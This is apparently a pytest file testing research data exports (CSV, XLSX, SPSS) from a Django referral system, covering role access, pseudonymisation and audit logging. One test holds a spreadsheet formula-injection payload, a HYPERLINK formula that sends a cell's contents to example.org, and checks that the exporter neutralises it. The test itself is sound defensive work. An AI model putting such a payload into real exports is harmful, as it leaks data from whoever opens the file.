import csv
import datetime
import io
import json

import pyreadstat
import pytest
from auditlog.models import LogEntry
from django.urls import reverse
from openpyxl import load_workbook

from referrals.models import Referral
from shell.interchange import import_lines, validate_lines
from tests.research.test_stats import FIXTURE

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def data(region, other_region):
    validation = validate_lines([json.dumps(c) for c in FIXTURE])
    import_lines(validation)


def url(what, fmt):
    return reverse("research:export", args=[what, fmt])


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        ("researcher", 200),
        ("admin_user", 200),
        ("regional_manager", 403),
        ("referrer", 403),
        ("coordinator", 403),
        ("liaison", 403),
        ("no_role_user", 403),
    ],
)
def test_only_researchers_and_administrators_export(client, request, fixture, expected):
    client.force_login(request.getfixturevalue(fixture))
    for what, fmt in [
        ("aggregates", "csv"),
        ("cases", "xlsx"),
        ("cases", "sav"),
        ("jsonl", "jsonl"),
    ]:
        assert client.get(url(what, fmt)).status_code == expected


def test_aggregates_csv_and_xlsx(client, researcher):
    client.force_login(researcher)
    rows = list(
        csv.reader(io.StringIO(client.get(url("aggregates", "csv")).content.decode("utf-8-sig")))
    )
    assert rows[0] == ["figure", "value"]
    assert ["referrals", "6"] in rows
    assert ["grades.family.conference", "7.5"] in rows
    book = load_workbook(io.BytesIO(client.get(url("aggregates", "xlsx")).content))
    assert ["referrals", 6] in [list(r) for r in book.active.iter_rows(values_only=True)]


def test_case_level_sav_reads_back_with_labels(client, researcher, tmp_path):
    client.force_login(researcher)
    response = client.get(url("cases", "sav"))
    path = tmp_path / "cases.sav"
    path.write_bytes(response.content)
    frame, meta = pyreadstat.read_sav(str(path))
    assert len(frame) == 6
    assert (
        meta.column_names_to_labels["days_to_conference"] == "Dagen van aanmelding tot conferentie"
    )
    assert meta.variable_value_labels["stop_reason"][1] == "De familie wilde niet"
    assert sorted(frame["days_to_conference"].dropna().tolist()) == [20.0, 31.0, 60.0]
    assert not any("EK-2024" in str(v) for v in frame["pseudonym"])


def test_case_level_csv_is_pseudonymised_and_filtered(client, researcher):
    client.force_login(researcher)
    text = client.get(url("cases", "csv"), {"occasion": "crisis"}).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    assert rows[0]["occasion"] == "crisis" and rows[0]["pseudonym"].startswith("P-")
    assert "EK-2024" not in text


def test_every_export_is_access_logged(client, researcher):
    client.force_login(researcher)
    client.get(url("cases", "csv"), {"occasion": "crisis"}, REMOTE_ADDR="10.9.8.7")
    entries = LogEntry.objects.filter(action=LogEntry.Action.ACCESS)
    entry = entries.get(content_type__model="user")
    assert entry.actor == researcher and entry.remote_addr == "10.9.8.7"
    assert entry.additional_data["export"] == "cases"
    assert entry.additional_data["filters"] == "occasion=crisis"
    # Which cases the file held: one entry in each exported case's own log.
    crisis = Referral.objects.filter(occasion="crisis")
    assert entry.additional_data["cases"] == crisis.count() == 1
    per_case = entries.filter(content_type__model="referral")
    assert {int(e.object_pk) for e in per_case} == set(crisis.values_list("pk", flat=True))
    assert per_case.get().additional_data["access"] == "export"


def test_an_aggregate_export_names_no_case(client, researcher):
    client.force_login(researcher)
    client.get(url("aggregates", "csv"))
    entries = LogEntry.objects.filter(action=LogEntry.Action.ACCESS)
    assert list(entries.values_list("content_type__model", flat=True)) == ["user"]


def test_unknown_format_is_404(client, researcher):
    client.force_login(researcher)
    assert client.get(url("cases", "exe")).status_code == 404


def test_case_level_sav_has_spss_dates_scale_counts_and_nominal_codes(client, researcher, tmp_path):
    client.force_login(researcher)
    path = tmp_path / "cases.sav"
    path.write_bytes(client.get(url("cases", "sav")).content)
    frame, meta = pyreadstat.read_sav(str(path))
    formats, levels = meta.original_variable_types, meta.variable_measure
    assert formats["referred_on"] == "EDATE10"
    assert isinstance(frame["referred_on"].dropna().iloc[0], datetime.date)
    for count in ("main_persons", "days_to_conference", "duration_minutes", "agreements"):
        assert (formats[count], levels[count]) == ("F8.0", "scale"), count
    for code in ("occasion", "stop_reason", "decision", "region", "conference", "pseudonym"):
        assert levels[code] == "nominal", code
    assert formats["occasion"] == "F8.0" and formats["region"].startswith("A")


def test_case_level_xlsx_holds_dates_as_date_cells(client, researcher):
    client.force_login(researcher)
    response = client.get(url("cases", "xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("referred_on") + 1)
    assert cell.is_date and isinstance(cell.value, datetime.datetime)


FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_that_looks_like_a_formula_arrives_as_text(client, researcher, start):
    from ekc.models import Region

    Region.objects.filter(name="Overijssel").update(name=start + FORMULA[1:])
    client.force_login(researcher)
    rows = list(
        csv.DictReader(
            io.StringIO(client.get(url("cases", "csv")).content.decode("utf-8-sig"), newline="")
        )
    )
    regions = {row["region"] for row in rows}
    assert "'" + start + FORMULA[1:] in regions
    assert not any(region.startswith(("=", "+", "-", "@", "\t", "\r")) for region in regions)

    book = load_workbook(io.BytesIO(client.get(url("cases", "xlsx")).content))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("region")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    # (XML turns a carriage return into a newline.)
    assert "'" + start + FORMULA[1:] in {cell.value.replace("\n", "\r") for cell in cells}


def test_numbers_and_plain_text_stay_as_they_are():
    from ekc.spreadsheets import neutral_text

    assert neutral_text(-3) == -3
    assert neutral_text(2.5) == 2.5
    assert neutral_text(None) is None
    assert neutral_text("Noord-Holland") == "Noord-Holland"
